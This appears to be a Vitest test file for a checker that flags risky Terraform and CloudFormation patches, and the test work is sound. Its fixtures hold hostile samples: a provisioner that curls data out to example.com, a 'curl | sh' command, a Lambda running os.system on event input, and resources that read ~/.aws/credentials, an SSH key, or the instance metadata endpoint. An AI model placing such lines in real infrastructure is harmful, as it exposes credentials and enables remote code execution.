import { describe, it } from 'vitest';
import { edit, expectVerdict, type Row } from './judge.js';

const INSTANCE = `resource "aws_instance" "web" {
  ami           = "ami-0123456789abcdef0"
  instance_type = "t3.micro"

  metadata_options {
    http_tokens = "optional"
  }
}
`;

const PROVISIONED = edit(
  INSTANCE,
  '  metadata_options {',
  '  provisioner "local-exec" {\n    command = "echo ${self.private_ip} >> hosts"\n  }\n\n  metadata_options {',
);

const NETWORK = `module "network" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "5.8.1"
}
`;

const TEMPLATE = `AWSTemplateFormatVersion: '2010-09-09'
Resources:
  Bucket:
    Type: AWS::S3::Bucket
`;

const FUNCTION = `Resources:
  Handler:
    Type: AWS::Lambda::Function
    Properties:
      Runtime: python3.12
      Handler: index.handler
      Role: arn:aws:iam::111122223333:role/handler
      Code:
        S3Bucket: acme-artifacts
        S3Key: handler.zip
`;

const violations: Row[] = [
  {
    name: 'a resource gains a local-exec provisioner',
    kind: 'terraform',
    before: INSTANCE,
    after: PROVISIONED,
    expected: [
      ['code-execution', 'main.tf: aws_instance.web has a new or changed "local-exec" provisioner: it runs a command where Terraform runs'],
    ],
  },
  {
    name: 'a provisioner command changes',
    kind: 'terraform',
    before: PROVISIONED,
    after: edit(PROVISIONED, '>> hosts', '| curl -d @- https://example.com'),
    expected: [['code-execution', 'aws_instance.web has a new or changed "local-exec" provisioner']],
  },
  {
    name: 'a terraform_data with a remote-exec provisioner appears',
    kind: 'terraform',
    before: INSTANCE,
    after: `${INSTANCE}\nresource "terraform_data" "bootstrap" {\n  triggers_replace = [aws_instance.web.id]\n\n  provisioner "remote-exec" {\n    inline = ["sudo systemctl restart app"]\n  }\n}\n`,
    expected: [['code-execution', 'terraform_data.bootstrap is new or changed: it runs its provisioners (remote-exec) on apply']],
  },
  {
    name: 'a null_resource changes the command of its provisioner',
    kind: 'terraform',
    before: 'resource "null_resource" "seed" {\n  provisioner "local-exec" {\n    command = "./seed.sh"\n  }\n}\n',
    after: 'resource "null_resource" "seed" {\n  provisioner "local-exec" {\n    command = "curl -s https://example.com/x | sh"\n  }\n}\n',
    expected: [['code-execution', 'null_resource.seed is new or changed: it runs its provisioners (local-exec) on apply']],
  },
  {
    name: 'an external data source appears',
    kind: 'terraform',
    before: INSTANCE,
    after: `${INSTANCE}\ndata "external" "token" {\n  program = ["python3", "token.py"]\n}\n`,
    expected: [['code-execution', 'data.external.token is new or changed: it runs a program when Terraform plans']],
  },
  {
    name: 'an http data source appears',
    kind: 'terraform',
    before: INSTANCE,
    after: `${INSTANCE}\ndata "http" "ip" {\n  url = "https://checkip.amazonaws.com"\n}\n`,
    expected: [['external-read', 'data.http.ip is a new or changed data source: it fetches a URL when Terraform plans']],
  },
  {
    name: 'a module from git appears',
    kind: 'terraform',
    before: INSTANCE,
    after: `${INSTANCE}\nmodule "hardening" {\n  source = "git::https://example.com/hardening.git?ref=v1"\n}\n`,
    expected: [
      [
        'code-execution',
        'module.hardening is a new module call: the code of git::https://example.com/hardening.git?ref=v1 runs with the plan, and none of it is part of the patch',
      ],
    ],
  },
  {
    name: 'a registry module appears',
    kind: 'terraform',
    before: INSTANCE,
    after: `${INSTANCE}\n${NETWORK}`,
    expected: [
      [
        'code-execution',
        'module.network is a new module call: the code of terraform-aws-modules/vpc/aws runs with the plan, and none of it is part of the patch',
      ],
    ],
  },
  {
    name: 'a local module appears',
    kind: 'terraform',
    before: INSTANCE,
    after: `${INSTANCE}\nmodule "tags" {\n  source = "../modules/tags"\n}\n`,
    expected: [
      [
        'code-execution',
        'module.tags is a new module call: the code of ../modules/tags runs with the plan, and none of it is part of the patch',
      ],
    ],
  },
  {
    name: 'a module from a GitHub shorthand appears',
    kind: 'terraform',
    before: '',
    after: 'module "x" {\n  source = "github.com/acme/terraform-x"\n}\n',
    expected: [
      [
        'code-execution',
        'module.x is a new module call: the code of github.com/acme/terraform-x runs with the plan, and none of it is part of the patch',
      ],
    ],
  },
  {
    name: 'a module source changes',
    kind: 'terraform',
    before: NETWORK,
    after: edit(NETWORK, '"terraform-aws-modules/vpc/aws"', '"s3::https://s3.amazonaws.com/acme/vpc.zip"'),
    expected: [
      [
        'code-execution',
        'module.network changes its source from terraform-aws-modules/vpc/aws to s3::https://s3.amazonaws.com/acme/vpc.zip',
      ],
    ],
  },
  {
    name: 'a module version changes',
    kind: 'terraform',
    before: NETWORK,
    after: edit(NETWORK, '"5.8.1"', '"5.9.0"'),
    expected: [['code-execution', 'module.network changes its version from "5.8.1" to "5.9.0"']],
  },
  {
    name: 'a custom resource (YAML) appears',
    kind: 'cloudformation',
    before: TEMPLATE,
    after: `${TEMPLATE}  Seed:\n    Type: Custom::Seed\n    Properties:\n      ServiceToken: arn:aws:lambda:us-east-1:111122223333:function:seed\n`,
    expected: [['code-execution', 'template.yaml: Seed is new or changed and is a custom resource: its function runs on deploy']],
  },
  {
    name: 'a macro (JSON) appears',
    kind: 'cloudformation',
    before: '{"Resources": {"Bucket": {"Type": "AWS::S3::Bucket"}}}',
    after:
      '{"Resources": {"Bucket": {"Type": "AWS::S3::Bucket"}, "Expand": {"Type": "AWS::CloudFormation::Macro", "Properties": {"Name": "Expand", "FunctionName": "arn:aws:lambda:us-east-1:111122223333:function:expand"}}}}',
    expected: [['code-execution', 'template.json: Expand is new or changed and is a macro: its function rewrites templates']],
  },
  {
    name: 'a function (YAML) gets inline code',
    kind: 'cloudformation',
    before: FUNCTION,
    after: edit(
      FUNCTION,
      '        S3Bucket: acme-artifacts\n        S3Key: handler.zip\n',
      '        ZipFile: |\n          import os\n          def handler(event, context):\n              os.system(event["cmd"])\n',
    ),
    expected: [['code-execution', "Handler has a new or changed Code.ZipFile, which is the function's code"]],
  },
  {
    name: 'a Transform (YAML) is added',
    kind: 'cloudformation',
    before: TEMPLATE,
    after: edit(TEMPLATE, 'Resources:', 'Transform: AWS::Serverless-2016-10-31\nResources:'),
    expected: [
      [
        'code-execution',
        'template.yaml: Transform changes from none to "AWS::Serverless-2016-10-31": macros rewrite the template before it deploys',
      ],
      ['backend-or-provider', 'template.yaml: Transform changes from none to "AWS::Serverless-2016-10-31"'],
    ],
  },
];

const allowed: Row[] = [
  {
    name: 'a resource with a provisioner changes elsewhere',
    kind: 'terraform',
    before: PROVISIONED,
    after: edit(PROVISIONED, '"optional"', '"required"'),
    expected: [],
  },
  {
    name: 'a null_resource with a provisioner stays as it is',
    kind: 'terraform',
    before: `${INSTANCE}\nresource "null_resource" "seed" {\n  provisioner "local-exec" {\n    command = "./seed.sh"\n  }\n}\n`,
    after: `${edit(INSTANCE, '"optional"', '"required"')}\nresource "null_resource" "seed" {\n  provisioner "local-exec" {\n    command = "./seed.sh"\n  }\n}\n`,
    expected: [],
  },
  {
    name: 'a module input changes',
    kind: 'terraform',
    before: NETWORK,
    after: edit(NETWORK, '"5.8.1"\n', '"5.8.1"\n\n  enable_flow_log = true\n'),
    expected: [],
  },
  {
    name: 'a function (YAML) with code in S3 changes its memory',
    kind: 'cloudformation',
    before: FUNCTION,
    after: edit(FUNCTION, '      Runtime: python3.12\n', '      Runtime: python3.12\n      MemorySize: 256\n'),
    expected: [],
  },
];

describe('checkPatch: code-execution', () => {
  it.each(violations)('reports it when $name', expectVerdict);
  it.each(allowed)('lets the patch pass when $name', expectVerdict);
});

const OBJECT = 'resource "aws_s3_object" "index" {\n  bucket  = "acme-site"\n  key     = "index.html"\n  content = "<h1>hello</h1>"\n}\n';
const CLUSTER =
  'resource "aws_emr_cluster" "etl" {\n  name           = "etl"\n  release_label  = "emr-7.1.0"\n  service_role   = "arn:aws:iam::111122223333:role/emr"\n  configurations = "[]"\n}\n';
const JOB =
  'Resources:\n  Etl:\n    Type: AWS::Glue::Job\n    Properties:\n      Role: arn:aws:iam::111122223333:role/glue\n      Command:\n        Name: glueetl\n        ScriptLocation: s3://acme-artifacts/etl.py\n';

/** Arguments the provider itself reads from the machine it runs on, and local paths the packagers upload. */
const providerReads: Row[] = [
  {
    name: 'an S3 object takes its body from a file outside the repository',
    kind: 'terraform',
    before: OBJECT,
    after: edit(OBJECT, 'content = "<h1>hello</h1>"', 'source  = "~/.aws/credentials"'),
    expected: [
      [
        'external-read',
        'aws_s3_object.index sets source to "~/.aws/credentials": the AWS provider reads this file on the machine Terraform runs on and sends it to AWS',
      ],
    ],
  },
  {
    name: 'an S3 object source comes from a variable',
    kind: 'terraform',
    before: OBJECT,
    after: `variable "body" {\n  type = string\n}\n\n${edit(OBJECT, 'content = "<h1>hello</h1>"', 'source  = var.body')}`,
    expected: [['external-read', 'aws_s3_object.index sets source to']],
  },
  {
    name: 'a new EMR cluster takes its configurations from a URL',
    kind: 'terraform',
    before: '',
    after: edit(CLUSTER, '"[]"', '"http://169.254.169.254/latest/user-data/app.json"'),
    expected: [
      [
        'external-read',
        'aws_emr_cluster.etl sets configurations to "http://169.254.169.254/latest/user-data/app.json": the AWS provider fetches this URL or reads this file where Terraform runs',
      ],
    ],
  },
  {
    name: 'an ip_ranges data source reads another URL',
    kind: 'terraform',
    before: '',
    after: 'data "aws_ip_ranges" "s3" {\n  services = ["s3"]\n  url      = "http://10.0.0.5/ranges.json"\n}\n',
    expected: [
      [
        'external-read',
        'data.aws_ip_ranges.s3 sets url to "http://10.0.0.5/ranges.json": the AWS provider fetches this URL when Terraform plans',
      ],
    ],
  },
  {
    name: 'a Glue job (YAML) script becomes a local path',
    kind: 'cloudformation',
    before: JOB,
    after: edit(JOB, 's3://acme-artifacts/etl.py', '../../.ssh/id_rsa'),
    expected: [
      ['code-execution', 'Etl has a new or changed Command.ScriptLocation'],
      ['external-read', 'Etl sets Command.ScriptLocation to "../../.ssh/id_rsa", a local path'],
    ],
  },
];

const notReads: Row[] = [
  {
    name: 'an S3 object with inline content is tagged',
    kind: 'terraform',
    before: OBJECT,
    after: edit(OBJECT, '  content = "<h1>hello</h1>"\n', '  content = "<h1>hello</h1>"\n  tags    = { Team = "web" }\n'),
    expected: [],
  },
  {
    name: 'a new EMR cluster has inline JSON configurations',
    kind: 'terraform',
    before: '',
    after: edit(CLUSTER, '"[]"', '"[{\\"Classification\\":\\"spark\\",\\"Properties\\":{}}]"'),
    expected: [],
  },
  {
    name: 'a Glue job (YAML) changes its worker count, script in S3',
    kind: 'cloudformation',
    before: JOB,
    after: edit(JOB, '      Role:', '      NumberOfWorkers: 4\n      Role:'),
    expected: [],
  },
];

describe('checkPatch: external-read by the provider and the packagers', () => {
  it.each(providerReads)('reports it when $name', expectVerdict);
  it.each(notReads)('lets the patch pass when $name', expectVerdict);
});
